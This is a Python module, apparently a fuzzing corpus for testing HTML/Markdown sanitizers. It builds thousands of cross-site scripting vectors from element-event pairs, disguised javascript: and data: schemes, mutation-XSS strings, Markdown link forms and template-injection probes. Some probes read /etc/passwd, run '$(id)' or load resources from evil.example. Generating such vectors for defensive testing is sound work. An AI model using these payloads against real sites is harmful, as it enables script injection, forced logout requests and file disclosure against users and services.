"""Attacks by the thousand: every way that is known to us to make a text run, load or fake something.

They are made by putting parts together, as the cheat sheets of the field do by hand: elements x events, attributes x
disguised addresses, Markdown x disguised addresses, what parsers read differently (mutation XSS), and templates.
"""

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "onanimationend"),
    *("ontransitionend", "onpointerrawupdate", "ontoggle", "onbeforetoggle", "onscroll", "onscrollend", "onwheel"),
    *("onbegin", "onend", "onrepeat", "onbeforematch", "oncontentvisibilityautostatechange", "onhashchange"),
    *("onpageshow", "onmessage", "onpopstate", "onresize", "onunhandledrejection", "oncopy", "onpaste", "oninput"),
    *("oninvalid", "onsearch", "onsubmit", "onreset", "onformdata", "oncanplay", "onplay", "onended", "ontimeupdate"),
    *("onloadstart", "onstart", "onbounce", "onfinish", "onfocusin", "ongotpointercapture", "onauxclick", "ondrag"),
)
ELEMENTS = (
    *("a", "abbr", "address", "applet", "area", "article", "audio", "b", "base", "bgsound", "blink", "body", "br"),
    *("button", "canvas", "center", "command", "content", "custom-x", "data", "datalist", "details", "dialog", "dir"),
    *("div", "dl", "element", "embed", "fieldset", "font", "footer", "form", "frame", "frameset", "h1", "head", "hr"),
    *("html", "iframe", "image", "img", "input", "isindex", "keygen", "label", "layer", "link", "listing", "main"),
    *("map", "marquee", "math", "menu", "meta", "meter", "multicol", "nav", "nextid", "noembed", "noframes", "nolayer"),
    *("noscript", "object", "optgroup", "option", "output", "p", "param", "picture", "plaintext", "portal", "pre"),
    *("progress", "rb", "rtc", "ruby", "script", "section", "select", "selectedcontent", "set", "shadow", "slot"),
    *("source", "spacer", "span", "strike", "style", "summary", "svg", "table", "tbody", "td", "template", "textarea"),
    *("th", "time", "title", "tr", "track", "tt", "ul", "var", "video", "wbr", "xmp", "fencedframe", "permission"),
)
ADDRESSES = (
    *("href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "background", "poster", "srcset", "ping"),
    *("codebase", "longdesc", "manifest", "cite", "lowsrc", "dynsrc", "to", "from", "values", "by", "attributename"),
)
SCHEMES = (
    *("javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "livescript:x"),
    *("mocha:x", "jar:javascript:alert(1)!/", "view-source:javascript:alert(1)", "feed:javascript:alert(1)"),
    *("data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,x", "blob:null/x", "filesystem:x"),
    *("javascript:123", "vbscript:1", "data:1", "file:///etc/passwd", "intent://x#Intent;end", "ms-msdt:/id"),
    *("//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "http://evil.example/"),
    *("https://a.example\\@evil.example", "https:///evil.example", "/uitloggen", "/account/apparaten/uit", "?a=1"),
)
CONTROLS = ("\x00", "\x01", "\x08", "\t", "\n", "\r", "\x0b", "\x0c", "\x1f", " ", "\x7f", "\xa0", "\xad")
SEPARATORS = ("\u1680", "\u2000", "\u200b", "\u200d", "\u2028", "\u2029", "\u202e", "\u2060", "\u3000", "\ufeff")

#: Where two readers of the same text disagree: what one takes for words becomes markup for the other.
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><desc><template><style><a title="</style><img src onerror=alert(1)>"></template>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style>",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></svg>",
    '<textarea><img title="</textarea><img src onerror=alert(1)>">',
    '<title><img title="</title><img src onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>',
    '<noembed><p title="</noembed><svg/onload=alert(1)>',
    '<iframe><p title="</iframe><svg/onload=alert(1)>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>--!>",
    "<!---><script>alert(1)</script>--->",
    "<!-- --!> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<!--]]><script>alert(1)</script><!---->",
    '<? foo="><script>alert(1)</script>">',
    '<! foo="><script>alert(1)</script>">',
    '</ foo="><script>alert(1)</script>">',
    '<% foo><x foo="%><script>alert(1)</script>">',
    '<img src="`onerror=alert(1)//">',
    "<img/src='x'/onerror=alert(1)>",
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg onload=alert(1)<!--",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script/x>",
    "<ſcript>alert(1)</ſcript>",
    "<\u0130mg src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p id=__proto__><p name=cookie><form id=document><input name=attributes>",
    "<a id=x href=https://a.example>x</a><a id=x name=y>",
    "<p data-controller=x data-action='click->x#y' hx-get=/uitloggen hx-trigger=load x-data='alert(1)' v-html=x>",
    "<p class='el-dialog' style='position:fixed;inset:0;z-index:99'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<object data=https://evil.example><embed src=https://evil.example>",
    "<details open ontoggle=alert(1)><summary popovertarget=x>",
    "<button popovertarget=x popovertargetaction=toggle>x</button><p popover id=x>",
    "<video poster=https://evil.example><source src=https://evil.example></video>",
    "<p lang=nl dir=rtl contenteditable accesskey=x tabindex=9 draggable=true autofocus onfocus=alert(1)>",
)
TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{# x #}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "@{7*7}", "{7*7}", "%{7*7}",
    "{{ url_for('account.sign_out') }}", "{!! 7 !!}", "{{{ 7 }}}", "<!--#include virtual='/etc/passwd'-->",
    "$(id)", "`id`", "%(name)s", "%s%s%n", "{0.__class__}", "{request.application}", "\x02wzxhzdk:0\x03",
    "\ue0000\ue001",
)  # fmt: skip
#: The ways in which Markdown writes an address.
MARKDOWN = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "![x](<{}>)",
    "<{}>",
    "[x][a]\n\n[a]: {}",
    "[x][]\n\n[x]: <{}>",
    "[![x]({})](https://a.example)",
    "[x]( {} )",
    "[x]({}){{: onclick=alert(1) }}",
    "`[x]({})`",
    "*[x]: {}",
    "[^x]: {}\n\nx[^x]",
)


def vectors() -> Iterator[str]:
    """Give every attack once."""
    yield from dict.fromkeys((*_elements(), *_attributes(), *_links(), *MUTATIONS, *_nested(), *TEMPLATES))


def _elements() -> Iterator[str]:
    for number, element in enumerate(ELEMENTS):
        for event in EVENTS[number % 4 :: 4]:
            yield f"<{element} {event}=alert(1)>x</{element}>"
        yield f"<{element.upper()} SRC=x ONERROR=alert(1)>"
        yield f"<{element}/autofocus/onfocus='alert(1)'>"
        yield f"</{element} onclick=alert(1)>"


def _attributes() -> Iterator[str]:
    for name, address in product(ADDRESSES, SCHEMES):
        yield f'<a {name}="{address}">x</a>'
        yield f"<img {name}={address.replace(' ', '')}>"
    for address in SCHEMES[:6]:
        for spelled in _spellings(address):
            yield f'<a href="{spelled}">x</a>'


def _links() -> Iterator[str]:
    for form, address in product(MARKDOWN, SCHEMES):
        yield form.format(address)
    for number, spelled in enumerate(one for address in SCHEMES[:4] for one in _spellings(address)):
        yield MARKDOWN[number % len(MARKDOWN)].format(spelled)
        yield MARKDOWN[0].format(spelled)


def _nested() -> Iterator[str]:
    """Put every disagreement inside every other kind of text that readers treat apart."""
    shells = ("**{}**", "`{}`", "```\n{}\n```", "    {}", "> - {}", "<!-- {} -->", "<p title='{}'>", "[{}](/zakkaart)")
    for shell, inner in product(shells, MUTATIONS):
        yield shell.replace("{}", inner)


def _spellings(address: str) -> Iterator[str]:
    """Disguise an address: letters, spaces, codes, what a browser drops and what a filter drops."""
    scheme, _, rest = address.partition(":")
    yield f"{scheme.upper()}:{rest}"
    yield f"{scheme.title()}:{rest}"
    for sign in (*CONTROLS, *SEPARATORS):
        yield f"{sign}{address}"
        yield f"{scheme[:4]}{sign}{scheme[4:]}:{rest}"
        yield f"{scheme}{sign}:{rest}"
    for code in ("&#{};", "&#x{:x};", "&#{:07d}", "&#X{:X};", "&amp;#{};"):
        yield code.format(ord(scheme[0])) + address[1:]
        yield "".join(code.format(ord(letter)) for letter in scheme) + f":{rest}"
    for colon in ("&colon;", "&#58;", "&#x3a;", "%3A", "\uff1a", "\\:", "&Tab;:", "&NewLine;:"):
        yield f"{scheme}{colon}{rest}"
    yield quote(address)
    yield f"\\{address}"
    yield f"{address}//https://a.example"
    yield f"https://a.example/{address}"
